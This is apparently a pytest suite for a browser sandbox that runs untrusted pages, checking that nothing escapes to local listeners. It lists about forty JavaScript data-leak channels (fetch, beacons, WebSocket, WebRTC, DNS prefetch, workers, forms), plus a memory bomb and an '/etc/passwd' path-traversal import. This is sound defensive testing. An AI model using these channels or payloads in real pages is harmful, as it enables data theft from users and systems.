"""Attacks of page JavaScript on this machine, and on nothing else: every listener below must see nothing."""

from __future__ import annotations

import asyncio
import contextlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import textwrap
from collections.abc import AsyncIterator, Callable, Iterator
from dataclasses import dataclass, field

import psutil
import pytest
from playwright.async_api import Error, Page

from agent_judge.launch.local import LocalBackend
from agent_judge.launch.renderers import RendererWatch
from agent_judge.launch.session import BrowserSession
from agent_judge.read.environment import Environment, Limits
from agent_judge.schema import Solution, Viewport

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="the network namespace exists on Linux only")

_EXTRA = "10.213.77.1"


@dataclass
class Listeners:
    """What tells whether anything of a page got out."""

    hosts: tuple[str, ...]
    port: int
    met: list[str] = field(default_factory=list)


def _extra_address() -> bool:
    ip = shutil.which("ip")
    if not ip or os.geteuid() != 0:
        return False
    return subprocess.run([ip, "address", "replace", f"{_EXTRA}/32", "dev", "lo"], check=False).returncode == 0


@pytest.fixture(scope="module")
def extra_host() -> Iterator[str]:
    """A private address of this machine, on its loopback interface; 127.0.0.2 where none can be added."""
    if not _extra_address():
        yield "127.0.0.2"
        return
    yield _EXTRA
    subprocess.run(["ip", "address", "del", f"{_EXTRA}/32", "dev", "lo"], check=False)


@pytest.fixture(scope="module")
async def listeners(extra_host: str) -> AsyncIterator[Listeners]:
    """TCP and UDP on one port of two addresses, and a name server where its port is free."""
    loop = asyncio.get_running_loop()
    found = Listeners(("127.0.0.1", extra_host), 0)

    def met_tcp(_: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        found.met.append("tcp")
        writer.close()

    class Datagrams(asyncio.DatagramProtocol):
        def datagram_received(self, data: bytes, addr: object) -> None:
            found.met.append("udp")

    async with contextlib.AsyncExitStack() as opened:
        for host in found.hosts:
            server = await opened.enter_async_context(await asyncio.start_server(met_tcp, host, found.port))
            found.port = server.sockets[0].getsockname()[1]
        for host, port in [*((host, found.port) for host in found.hosts), ("127.0.0.1", 53)]:
            with contextlib.suppress(OSError):
                transport, _ = await loop.create_datagram_endpoint(Datagrams, local_addr=(host, port))
                opened.callback(transport.close)
        yield found


@pytest.fixture(scope="module")
async def attacker(backend: LocalBackend) -> AsyncIterator[BrowserSession]:
    body = b"<!doctype html><title>attacker</title><h1>here</h1>"
    solution = Solution(environment="html", language="html", entry="index.html", files={"index.html": body})
    session = await backend.launch(solution, Viewport(), 1)
    yield session
    await session.close()


@pytest.fixture(scope="module")
async def bare_page(backend: LocalBackend) -> AsyncIterator[Page]:
    """A page in the sandboxed browser without any routing: only the closed network is in the way."""
    context = await (await backend.browser()).new_context()
    page = await context.new_page()
    yield page
    await context.close()


# Each is the body of an async function of (url, host, port); `loads(element)` waits for an element to load or fail.
VECTORS = {
    "fetch": "await fetch(url)",
    "fetch without cors": "await fetch(url, {mode: 'no-cors'})",
    "fetch kept alive": "await fetch(url, {keepalive: true, method: 'POST', body: 'secret'})",
    "xhr": """const x = new XMLHttpRequest(); x.open('GET', url); x.send();
        await new Promise((go) => { x.onloadend = go })""",
    "xhr in step": "const x = new XMLHttpRequest(); x.open('GET', url, false); x.send()",
    "beacon": "navigator.sendBeacon(url, 'secret')",
    "websocket": """const s = new WebSocket(`ws://${host}:${port}`);
        await new Promise((go) => { s.onerror = s.onclose = go })""",
    "event source": """const s = new EventSource(url);
        await new Promise((go) => { s.onerror = () => { s.close(); go() } })""",
    "webtransport": "await new WebTransport(`https://${host}:${port}`).ready",
    "webrtc": """const peer = new RTCPeerConnection({iceServers: [{urls: `stun:${host}:${port}`}]});
        peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer());
        await new Promise((go) => { peer.onicecandidate = (event) => event.candidate ?? go() })""",
    "image": "await loads(Object.assign(new Image(), {src: url}))",
    "script": "await loads(Object.assign(document.createElement('script'), {src: url}))",
    "module": "await import(url)",
    "style sheet": "await loads(Object.assign(document.createElement('link'), {rel: 'stylesheet', href: url}))",
    "style import": "await loads(Object.assign(document.createElement('style'), {textContent: `@import '${url}';`}))",
    "style picture": "document.body.style.background = `url(${url})`; document.body.offsetWidth",
    "font": "await new FontFace('f', `url(${url})`).load()",
    "iframe": "await loads(Object.assign(document.createElement('iframe'), {src: url}))",
    "iframe with a document of its own": """await loads(Object.assign(document.createElement('iframe'),
        {srcdoc: `<script>fetch('${url}')</scr` + 'ipt>'}))""",
    "sandboxed iframe that opens windows": """await loads(Object.assign(document.createElement('iframe'),
        {sandbox: 'allow-scripts allow-popups allow-top-navigation', srcdoc: `<script>window.open('${url}');
        top.location = '${url}'</scr` + 'ipt>'}))""",
    "object": "await loads(Object.assign(document.createElement('object'), {data: url}))",
    "embed": "await loads(Object.assign(document.createElement('embed'), {src: url}))",
    "video": "await loads(Object.assign(document.createElement('video'), {src: url}))",
    "audio": "await loads(Object.assign(document.createElement('audio'), {src: url}))",
    "preload": "await loads(Object.assign(document.createElement('link'), {rel: 'preload', as: 'script', href: url}))",
    "prefetch": "await loads(Object.assign(document.createElement('link'), {rel: 'prefetch', href: url}))",
    "preconnect": "await loads(Object.assign(document.createElement('link'), {rel: 'preconnect', href: url}))",
    "name lookup": """await loads(Object.assign(document.createElement('link'),
        {rel: 'dns-prefetch', href: `//${Date.now()}.leak.test`})); await fetch(`http://${Date.now()}.leak.test/`)""",
    "manifest": "await loads(Object.assign(document.createElement('link'), {rel: 'manifest', href: url}))",
    "worker": """const w = new Worker(URL.createObjectURL(new Blob([`fetch('${url}').finally(() => postMessage(1))`])));
        await new Promise((go) => { w.onmessage = w.onerror = go })""",
    "worker with a websocket": """const w = new Worker(URL.createObjectURL(new Blob([
        `const s = new WebSocket('ws://${host}:${port}'); s.onerror = s.onclose = () => postMessage(1)`])));
        await new Promise((go) => { w.onmessage = w.onerror = go })""",
    "worker that imports": """const w = new Worker(URL.createObjectURL(new Blob([`importScripts('${url}')`])));
        await new Promise((go) => { w.onmessage = w.onerror = go })""",
    "shared worker": "new SharedWorker(URL.createObjectURL(new Blob([`fetch('${url}')`])))",
    "service worker": "await navigator.serviceWorker.register('/worker.js')",
    "window": "window.open(url)",
    "form": """const f = document.createElement('form'); f.method = 'post'; f.action = url; f.target = '_self';
        document.body.append(f); f.submit()""",
    "form into a new window": """const f = document.createElement('form'); f.action = url; f.target = '_blank';
        document.body.append(f); f.submit()""",
    "link": "const a = document.createElement('a'); a.href = url; document.body.append(a); a.click()",
    "link that pings": """const a = document.createElement('a'); a.href = '#x'; a.ping = url; document.body.append(a);
        a.click()""",
    "redirect": "location.href = url",
    "refresh": """const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = `0; url=${url}`;
        document.head.append(m)""",
}  # fmt: skip

_ATTACK = """async ([body, url, host, port]) => {
  const loads = (element) => new Promise((go) => {
    element.onload = element.onerror = element.onloadeddata = go;
    (document.body ?? document.documentElement).append(element);
    element.load?.();
  });
  const attack = new (async () => {}).constructor("url", "host", "port", "loads", body);
  const limit = new Promise((go) => setTimeout(go, 400));
  await Promise.race([attack(url, host, port, loads).catch(() => {}), limit]);
}"""


async def until(condition: Callable[[], bool]) -> None:
    async with asyncio.timeout(20):
        while not condition():  # noqa: ASYNC110  # processes end without an event of ours
            await asyncio.sleep(0.02)


async def attack(page: Page, vector: str, listeners: Listeners) -> None:
    for host in listeners.hosts:
        url = f"http://{host}:{listeners.port}/leak"
        await page.evaluate(_ATTACK, [VECTORS[vector], url, host, listeners.port])


async def test_the_listeners_hear_what_reaches_them(listeners: Listeners) -> None:
    for host in listeners.hosts:
        _, writer = await asyncio.open_connection(host, listeners.port)
        writer.close()
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
            datagrams.sendto(b"x", (host, listeners.port))
    await until(lambda: len(listeners.met) == 4)
    listeners.met.clear()


@pytest.mark.parametrize("vector", VECTORS)
async def test_nothing_of_a_page_gets_out(vector: str, attacker: BrowserSession, listeners: Listeners) -> None:
    assert attacker.page
    await attack(attacker.page, vector, listeners)
    assert listeners.met == []
    assert attacker.page.url.startswith("http://localhost/")
    assert await attacker.page.inner_text("h1") == "here"
    assert attacker.death() == ""


async def test_what_was_tried_is_recorded(attacker: BrowserSession, listeners: Listeners) -> None:
    assert attacker.page
    attacker.blocked_requests.clear()
    for vector in ("fetch", "websocket", "webrtc", "image", "form", "worker", "iframe"):
        await attack(attacker.page, vector, listeners)
    kinds = {request.kind for request in attacker.blocked_requests}
    assert {"fetch", "websocket", "webrtc", "image", "navigation", "document"} <= kinds


async def test_the_network_itself_is_closed(bare_page: Page, listeners: Listeners) -> None:
    """Were routing to miss a request, there would still be no way out."""
    leaving = ("window", "form", "form into a new window", "link", "redirect", "refresh", "service worker")
    for vector in VECTORS:
        if vector not in leaving and "iframe" not in vector:
            await attack(bare_page, vector, listeners)
    for host in listeners.hosts:
        with contextlib.suppress(Exception):
            await bare_page.goto(f"http://{host}:{listeners.port}/", timeout=3000)
    assert listeners.met == []


async def test_the_sandbox_has_no_interface_but_its_own_loopback_and_no_route(backend: LocalBackend) -> None:
    await backend.browser()
    inside = [one for one in psutil.Process().children(recursive=True) if _is_browser(one)]
    assert inside
    for process in inside:
        with open(f"/proc/{process.pid}/net/dev") as file:  # noqa: ASYNC230, PTH123  # not a file of a disk
            assert [line.split(":")[0].strip() for line in file.readlines()[2:]] == ["lo"]
        with open(f"/proc/{process.pid}/net/route") as file:  # noqa: ASYNC230, PTH123
            assert len(file.readlines()) == 1


def _is_browser(process: psutil.Process) -> bool:
    try:
        words = process.cmdline()
    except psutil.Error:
        return False
    return any(word.startswith("--agent-judge=") for word in words) and "bwrap" not in words[0]


async def test_a_memory_bomb_loses_its_page_and_says_why_whoever_came_before() -> None:
    bomb = b"""<script>onload = () => { const all = []; setInterval(() => {
      const some = new Uint8Array(2e7); some.fill(1); all.push(some); }, 5); }</script>"""
    allowed = [4000]

    def limits(environment: Environment) -> Limits:
        return environment.limits.model_copy(update={"memory_mib": allowed[0]})

    def page(body: bytes) -> Solution:
        return Solution(environment="html", language="html", entry="index.html", files={"index.html": body})

    async with LocalBackend(limits) as mine:
        generous = await mine.launch(page(b"<h1>may take a lot</h1>"), Viewport(), 1)
        allowed[0] = 400
        session = await mine.launch(page(bomb), Viewport(), 1)
        if session.page and not session.death():
            with contextlib.suppress(Error):
                await session.page.wait_for_event("crash", timeout=20_000)
        assert session.death() == "killed: used more than 400 MiB of memory"
        assert generous.death() == ""
        await session.close()
        await generous.close()


async def test_each_overrun_is_told_of_one_page_only() -> None:
    watch = RendererWatch("--nobody", 300)
    watch.stop()
    assert watch.overrun() == ""
    watch._ended.add()
    assert watch.overrun() == "used more than 300 MiB of memory"
    assert watch.overrun() == ""


async def test_a_flood_of_console_lines_is_bounded(backend: LocalBackend) -> None:
    body = b"<script>for (let i = 0; i < 20000; i++) console.log('x'.repeat(5000))</script><h1>through</h1>"
    solution = Solution(environment="html", language="html", entry="index.html", files={"index.html": body})
    session = await backend.launch(solution, Viewport(), 1)
    try:
        assert session.report.outcome == "ready"
        lines = session.drain().console
        assert 0 < len(lines) <= 500
        assert max(len(line.text) for line in lines) <= 4000
    finally:
        await session.close()


async def test_file_names_do_not_climb_out(backend: LocalBackend) -> None:
    files = {"App.tsx": b"import x from '../../../../../../etc/passwd?raw'; export default () => x", "a/b.ts": b""}
    solution = Solution(environment="react", language="typescript", entry="App.tsx", files=files)
    session = await backend.launch(solution, Viewport(), 1)
    assert session.report.outcome == "build_failed"
    assert "root:" not in session.report.build_log
    await session.close()


_VICTIM = """
import asyncio, psutil
from agent_judge.launch.local import LocalBackend
from agent_judge.schema import Solution, Viewport

async def main():
    async with LocalBackend() as backend:
        files = {"index.html": b"<script>new Worker(URL.createObjectURL(new Blob(['while (true);'])))</script>"}
        solution = Solution(environment="html", language="html", entry="index.html", files=files)
        await backend.launch(solution, Viewport(), 1)
        print(*[one.pid for one in psutil.Process().children(recursive=True)], flush=True)
        await asyncio.Event().wait()

asyncio.run(main())
"""


def _alive(pid: int) -> bool:
    try:
        return psutil.Process(pid).status() != psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return False


async def test_nothing_is_left_when_we_are_killed() -> None:
    victim = await asyncio.create_subprocess_exec(
        sys.executable, "-c", textwrap.dedent(_VICTIM), stdout=asyncio.subprocess.PIPE
    )
    assert victim.stdout
    pids = [int(word) for word in (await victim.stdout.readline()).split()]
    assert len(pids) > 3
    victim.send_signal(signal.SIGKILL)
    await victim.wait()
    await until(lambda: not any(_alive(pid) for pid in pids))


async def test_many_launches_leave_this_machine_as_it_was() -> None:
    hostile = b"<script>alert(1); window.open('http://x.test/'); location = 'http://x.test/'; null.x</script>"
    friendly = b"<h1>hello</h1>"
    at_once = asyncio.Semaphore(4)

    async def one(backend: LocalBackend, body: bytes) -> None:
        async with at_once:
            solution = Solution(environment="html", language="html", entry="index.html", files={"index.html": body})
            session = await backend.launch(solution, Viewport(width=400, height=300), 1)
            await session.close()

    def state() -> tuple[int, int]:
        ours = psutil.Process()
        return len([one for one in ours.children(recursive=True) if _alive(one.pid)]), ours.num_fds()

    others = {one.pid for one in psutil.Process().children(recursive=True)}  # what earlier tests left is not ours
    async with LocalBackend() as backend:
        await asyncio.gather(*(one(backend, friendly) for _ in range(4)))
        processes, handles = state()
        await asyncio.gather(*(one(backend, hostile if number % 10 == 0 else friendly) for number in range(30)))
        spare = 3  # the browser keeps a page and a renderer or two ready; thirty launches that leak would be many more
        await until(lambda: state()[0] <= processes + spare)  # renderers take a moment to end
        assert state()[1] <= handles + 2
    left = [one for one in psutil.Process().children(recursive=True) if one.pid not in others]
    assert not [one for one in left if one.name() == "bwrap" and not _alive(one.pid)]


async def test_a_browser_whose_driver_dies_leaves_nothing() -> None:
    others = {one.pid for one in psutil.Process().children(recursive=True)}
    async with LocalBackend() as backend:
        await backend.browser()
        started = [one for one in psutil.Process().children(recursive=True) if one.pid not in others]
        driver = next(one for one in psutil.Process().children() if one in started)
        assert "node" in driver.name()
        driver.kill()
        await until(lambda: not any(_alive(one.pid) for one in started))
    assert {one.pid for one in psutil.Process().children(recursive=True)} <= others
